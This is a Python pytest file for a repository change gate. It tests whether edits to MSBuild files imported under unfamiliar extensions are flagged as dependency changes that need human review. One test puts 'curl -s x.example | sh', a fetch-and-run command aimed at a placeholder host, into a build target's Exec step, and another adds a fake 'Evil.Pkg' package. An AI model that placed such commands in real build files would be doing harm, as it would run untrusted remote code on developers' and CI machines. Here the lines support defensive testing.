"""Attack 40: an MSBuild file a project imports under a name the path rules do not know.

`<Import Project="eng/Versions.xml" />` in a `Directory.Build.props` makes MSBuild read `eng/Versions.xml` as its own:
a `<PackageReference>` added there is a new dependency of every project below, a `<Target>` with an `<Exec>` runs in
the build. The path rules know `.props`, `.targets`, `.proj` and the project files; on main 72d06e75 an edit adding a
package to an imported `.xml`, `.msbuild`, `.tasks` or extension-less file was `src` and `gate --tree --enable deps`
exited 0. Now the content tier reads such a file's head (diagrams.by_head): a `<Project>` root holding a project
element is `deps.content.msbuild-project`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

CSPROJ = ('<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup>\n    <TargetFramework>net8.0</TargetFramework>\n'
          "  </PropertyGroup>\n</Project>\n")
PACKAGES = ("{head}<Project{attrs}>\n  <ItemGroup>\n"
            '    <PackageReference Include="Newtonsoft.Json" Version="13.0.1" />\n  </ItemGroup>\n</Project>\n')
ADDED = '    <PackageReference Include="Evil.Pkg" Version="1.0.0" />\n  </ItemGroup>'
TARGET = ('<Project>\n  <Target Name="Gen" BeforeTargets="Build">\n    <Exec Command="echo gen" />\n  </Target>\n'
          "</Project>\n")
# (the imported file, the XML before its root, the root's attributes)
IMPORTED = [("eng/Versions.xml", "", ""), ("tools/shared.msbuild", "", ""), ("build/Common.tasks", "", ""),
            ("build/packages", "", ""), ("eng/Deps.xml", '<?xml version="1.0" encoding="utf-8"?>\n', ""),
            ("eng/Deps.xml", "<!-- shared -->\n", ' xmlns="http://schemas.microsoft.com/developer/msbuild/2003"'),
            ("build/Shared.settings", "\ufeff", ' ToolsVersion="15.0"'), ("build/common.inc", "", "")]


@pytest.mark.parametrize(("imported", "head", "attrs"), IMPORTED)
def test_an_imported_msbuild_file_needs_a_human(tmp_path: Path, imported: str, head: str, attrs: str) -> None:
    text = PACKAGES.format(head=head, attrs=attrs)
    props = f'<Project>\n  <Import Project="$(MSBuildThisFileDirectory){imported}" />\n</Project>\n'
    _, first, second = two_commits(tmp_path, {"Directory.Build.props": props, "src/App/App.csproj": CSPROJ,
                                              imported: text}, {imported: text.replace("  </ItemGroup>", ADDED)})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]


def test_an_imported_target_file_is_deps(tmp_path: Path) -> None:
    _, first, second = two_commits(tmp_path, {"src/App/App.csproj": CSPROJ, "build/gen.msbuild": TARGET},
                                   {"build/gen.msbuild": TARGET.replace("echo gen", "curl -s x.example | sh")})
    assert tree_classify(tmp_path, first, second)["build/gen.msbuild"]["bucket"] == "deps"


# XML documents whose root is no MSBuild project: a project description of another tool, Ant's lower-case <project>,
# a `<Project>` with no project element, a diagram, an `.inc` file of PHP
LOOK_ALIKES = [("docs/project.xml", "<Project>\n  <Name>x</Name>\n  <Owner>y</Owner>\n</Project>\n", "src"),
               ("build.xml", '<project name="x" default="jar">\n  <target name="jar"/>\n</project>\n', None),
               ("docs/arch.xml", "<mxfile>\n  <diagram/>\n</mxfile>\n", "other"),
               ("lib/config.inc", "<?php\n$x = '<Project><ItemGroup>';\n", "src"),
               ("data/projects.xml", "<Projects>\n  <Project><ItemName>a</ItemName></Project>\n</Projects>\n", "src")]


@each_case(("path", "text", "bucket"), LOOK_ALIKES)
def test_an_xml_file_that_is_no_msbuild_project_is_not_deps(tmp_path: Path, path: str, text: str,
                                                            bucket: str | None) -> None:
    _, first, second = two_commits(tmp_path, {path: text, "README.md": "x\n"}, {path: text + "<!-- edit -->\n"})
    got = tree_classify(tmp_path, first, second)[path]
    assert got["rule"] != "deps.content.msbuild-project", got
    assert bucket is None or got["bucket"] == bucket, got
